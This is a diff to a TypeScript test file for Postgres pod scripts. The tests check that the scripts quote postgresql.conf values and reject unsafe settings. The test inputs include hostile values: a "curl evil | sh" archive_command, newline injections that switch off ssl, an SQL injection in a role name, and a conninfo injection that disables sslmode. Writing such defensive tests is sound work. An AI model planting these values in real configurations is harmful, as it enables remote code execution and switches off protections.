@@ -2,8 +2,9 @@
  * The pod contract without servers: the ConfigMap files, slot names (TypeScript and bash agree),
  * the environment per role, the WAL budget, and every refusal of the scripts with its exact message.
  */
-import { execFileSync } from "child_process";
+import { execFileSync, spawnSync } from "child_process";
 import * as fs from "fs";
+import * as os from "os";
 import * as path from "path";
 import {
   commands,
@@ -72,7 +73,11 @@ describe("postgres pod contract", () => {
       PGDATA: "/var/lib/postgresql/data/pgdata",
       PGPORT: "5432",
       BALLAST_SOCKET_DIR: "/var/run/postgresql",
+      BALLAST_TLS_DIR: "/ballast/tls",
       BALLAST_REPLICATION_USER: "replicator",
+      BALLAST_APP_USER: "app",
+      BALLAST_APP_DATABASE: "app",
+      BALLAST_MONITOR_USER: "monitor",
       BALLAST_MAX_REPLICAS: "5",
       BALLAST_MAX_WAL_SIZE: "1GB",
       BALLAST_WAL_KEEP_SIZE: "128MB",
@@ -89,8 +94,7 @@ describe("postgres pod contract", () => {
     });
     for (const role of ["primary", "replica", "slotJanitor"] as const) {
       const names = scriptEnv(role, settings).map((e) => e.name);
-      expect(names).not.toContain(SECRET_ENV.superuserPassword);
-      expect(names).not.toContain(SECRET_ENV.replicationPassword);
+      for (const secret of Object.values(SECRET_ENV)) expect(names).not.toContain(secret);
     }
   });
 
@@ -112,10 +116,49 @@ describe("postgres pod contract", () => {
     for (const [name, text] of Object.entries(files)) {
       if (name.endsWith(".conf")) for (const m of text.matchAll(/\$\{([A-Z_]+)\}/g)) vars.add(m[1] as string);
     }
+    // Set by the scripts themselves from other settings.
+    const derived = ["BALLAST_MAX_WAL_SENDERS", "BALLAST_MAX_REPLICATION_SLOTS", "BALLAST_SYNC_NAMES", "BALLAST_PRIMARY_CONNINFO", "BALLAST_SLOT_NAME", "BALLAST_SSL_CERT_FILE", "BALLAST_SSL_KEY_FILE", "BALLAST_SSL_CA_FILE"];
+    const scripts = Object.entries(files).filter(([n]) => n.endsWith(".sh")).map(([, t]) => t).join("\n");
     for (const v of vars) {
-      const set = v.startsWith("BALLAST_Q_") || v === "BALLAST_MAX_WAL_SENDERS" || v === "BALLAST_MAX_REPLICATION_SLOTS";
+      const set = derived.includes(v) && scripts.includes(`${v}=`);
       expect({ v, known: set || readme.includes(`\`${v}\``) }).toEqual({ v, known: true });
     }
+  });
+});
+
+describe("what the scripts write into postgresql.conf", () => {
+  const common = path.join(__dirname, "../../components/database/postgres/scripts/common.sh");
+  const bash = (snippet: string, env: Record<string, string> = {}) => {
+    const r = spawnSync("bash", ["--norc", "--noprofile", "-c", `source "$0"; ${snippet}`, common], { encoding: "utf8", env: { PATH: process.env.PATH, ...env } });
+    return { code: r.status, stdout: r.stdout, stderr: r.stderr.replace(/^\S+ ballast-postgres: /gm, "") };
+  };
+
+  it.each<[string, string, string]>([
+    ["shared_buffers = 32MB", "shared_buffers = '32MB'\n", "a plain value is quoted"],
+    ["work_mem='4MB'\n# a comment\n\nlog_line_prefix = '%m it''s '", "work_mem = '4MB'\nlog_line_prefix = '%m it''s '\n", "quoted values keep their text; comments and blank lines go"],
+    ["search_path = 'a', b", "search_path = '''a'', b'\n", "a value that is not one quoted string stays one string"],
+  ])("BALLAST_EXTRA_CONF %j renders as %j (%s)", (extra, expected) => {
+    expect(bash("render_extra_conf", { BALLAST_EXTRA_CONF: extra })).toEqual({ code: 0, stdout: expected, stderr: "" });
+  });
+
+  it.each<[string, string]>([
+    ["fsync = off\nssl = off", "ssl is set by Ballast or can run commands, and may not be set here"],
+    ["archive_command = 'curl evil | sh'", "archive_command is set by Ballast or can run commands, and may not be set here"],
+    ["include = '/tmp/other.conf'", "include is set by Ballast or can run commands, and may not be set here"],
+    ["session_preload_libraries = 'evil'", "session_preload_libraries is set by Ballast or can run commands, and may not be set here"],
+    ["shared_buffers 32MB", "'shared_buffers 32MB' is not a setting of the form name = value"],
+  ])("refuses BALLAST_EXTRA_CONF %j", (extra, message) => {
+    expect(bash("render_extra_conf", { BALLAST_EXTRA_CONF: extra })).toEqual({ code: 1, stdout: "", stderr: `error: BALLAST_EXTRA_CONF: ${message}\n` });
+  });
+
+  it("quotes every value and refuses one with a newline, which would start a setting of its own", () => {
+    expect(bash(`conf_quote $'*\\nssl = off'`)).toEqual({ code: 1, stdout: "", stderr: "error: a postgresql.conf value may not hold a control character (newline, tab, ...), got '*?ssl = off'\n" });
+    expect(bash(`conf_quote "it's"`)).toEqual({ code: 0, stdout: "'it''s'", stderr: "" });
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "ballast-conf-"));
+    fs.writeFileSync(path.join(dir, "t.conf"), "listen_addresses = ${BALLAST_LISTEN_ADDRESSES}\nport = ${PGPORT}\n");
+    expect(bash("render_template t.conf", { BALLAST_CONF_DIR: dir, BALLAST_LISTEN_ADDRESSES: "*", PGPORT: "5432" })).toEqual({ code: 0, stdout: "listen_addresses = '*'\nport = '5432'\n", stderr: "" });
+    expect(bash("render_template t.conf", { BALLAST_CONF_DIR: dir, BALLAST_LISTEN_ADDRESSES: "*\nssl = off" }).code).toBe(1);
+    fs.rmSync(dir, { recursive: true, force: true });
   });
 });
 
@@ -135,12 +178,27 @@ describe("the scripts refuse unsafe or broken settings", () => {
     ["BALLAST_MIN_REPLICAS (2) must be > BALLAST_SYNC_STANDBYS (2), or commits can block when replicas scale in", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_SYNC_STANDBYS: "2", BALLAST_MIN_REPLICAS: "2" }],
     ["BALLAST_SYNC_STANDBYS (4) must be < BALLAST_MAX_REPLICAS (4)", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_SYNC_STANDBYS: "4", BALLAST_MAX_REPLICAS: "4" }],
     ["BALLAST_REPLICA_STATEFULSET must be a DNS label, got 'Orders_Replica'", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_REPLICA_STATEFULSET: "Orders_Replica" }],
-    ["BALLAST_REPLICATION_USER must match [a-z_][a-z0-9_]*, got 'repl'; DROP'", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_REPLICATION_USER: "repl'; DROP" }],
+    ["BALLAST_REPLICATION_USER must match [a-z_][a-z0-9_]* (at most 63 characters), got 'repl'; DROP'", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_REPLICATION_USER: "repl'; DROP" }],
+    ["BALLAST_APP_USER must match [a-z_][a-z0-9_]* (at most 63 characters), got 'App'", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_APP_USER: "App" }],
+    ["POSTGRES_USER, BALLAST_REPLICATION_USER, BALLAST_APP_USER and BALLAST_MONITOR_USER must be four different roles", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_APP_USER: "postgres" }],
+    ["BALLAST_APP_DATABASE must not be postgres, template0 or template1, got 'postgres'", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_APP_DATABASE: "postgres" }],
+    ["environment variable BALLAST_APP_PASSWORD is required and empty", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_APP_PASSWORD: "" }],
+    ["BALLAST_SYNCHRONOUS_COMMIT must be on, off, local, remote_write or remote_apply, got 'on\nssl = off'", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_SYNCHRONOUS_COMMIT: "on\nssl = off" }],
+    ["TLS file /nonexistent/tls.crt is missing or empty (mount the database's TLS Secret there)", "primary", "primary-start.sh", [], { ...primaryOk, BALLAST_TLS_DIR: "/nonexistent" }],
+    ["BALLAST_PRIMARY_HOST must be a host name or an IP address, got 'x' sslmode='disable'", "replica", "replica-start.sh", [], { ...replicaOk, BALLAST_PRIMARY_HOST: "x' sslmode='disable" }],
+    ["BALLAST_POD_NAME must be a DNS label, got 'Replica 0'", "replica", "replica-start.sh", [], { ...replicaOk, BALLAST_POD_NAME: "Replica 0" }],
+    ["BALLAST_HOT_STANDBY_FEEDBACK must be on or off, got 'yes'", "replica", "replica-start.sh", [], { ...replicaOk, BALLAST_HOT_STANDBY_FEEDBACK: "yes" }],
     ["environment variable BALLAST_PRIMARY_HOST is required and empty", "replica", "replica-start.sh", [], { ...replicaOk, BALLAST_PRIMARY_HOST: "" }],
     ["BALLAST_ON_SYSTEM_ID_MISMATCH must be refuse or rebootstrap, got 'maybe'", "replica", "replica-start.sh", [], { ...replicaOk, BALLAST_ON_SYSTEM_ID_MISMATCH: "maybe" }],
     ["PGDATA must be an absolute path below the volume mount, got 'pgdata'", "replica", "replica-start.sh", [], { ...replicaOk, PGDATA: "pgdata" }],
     [`pod name '${"r".repeat(64)}' gives slot name '${"r".repeat(64)}' longer than 63 characters`, "replica", "replica-start.sh", [], { ...replicaOk, BALLAST_POD_NAME: "r".repeat(64) }],
-    ["primary 127.0.0.1:1 not accepting connections after 1s", "replica", "replica-start.sh", [], { ...replicaOk, BALLAST_PRIMARY_PORT: "1", BALLAST_PRIMARY_WAIT_SECONDS: "1" }],
+    [
+      'primary 127.0.0.1:1 not accepting connections after 1s: connection to server at "127.0.0.1", port 1 failed: Connection refused Is the server running on that host and accepting TCP/IP connections?',
+      "replica",
+      "replica-start.sh",
+      [],
+      { ...replicaOk, BALLAST_PRIMARY_PORT: "1", BALLAST_PRIMARY_WAIT_SECONDS: "1" },
+    ],
     ["environment variable BALLAST_REPLICA_SERVICE is required and empty", "slot-janitor", "slot-janitor.sh", [], {}],
     ["BALLAST_JANITOR_MISSES must be >= 1, got 0", "slot-janitor", "slot-janitor.sh", [], { BALLAST_REPLICA_SERVICE: "svc", BALLAST_JANITOR_MISSES: "0" }],
     ["unknown argument '--forever' (the only argument is --once)", "slot-janitor", "slot-janitor.sh", ["--forever"], { BALLAST_REPLICA_SERVICE: "svc" }],
